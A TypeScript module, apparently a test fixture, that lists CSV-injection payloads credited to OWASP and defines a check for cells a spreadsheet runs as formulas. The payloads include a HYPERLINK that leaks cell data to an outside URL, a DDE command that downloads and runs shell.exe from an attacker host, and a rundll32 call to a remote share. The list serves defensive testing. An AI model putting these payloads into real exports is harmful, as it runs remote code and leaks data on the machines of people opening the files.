/**
 * CSV-injection payloads from the OWASP "CSV Injection" page, plus the spellings its rule names:
 * a leading tab or carriage return, and leading spaces before the formula character.
 */
export const OWASP_CSV_PAYLOADS = [
  `=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
  `=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1`,
  `=10+20+cmd|' /C calc'!A0`,
  `+2+3+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `\t=1+2`,
  `\r=1+2`,
  `   =1+2`,
  ` -2+3+cmd|' /C calc'!A0`,
  `-1.5e3`,
] as const

/** A spreadsheet runs a cell as a formula when, after any spaces, it starts with one of these. */
export function runsAsFormula(cell: string): boolean {
  return /^[ ]*[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
}
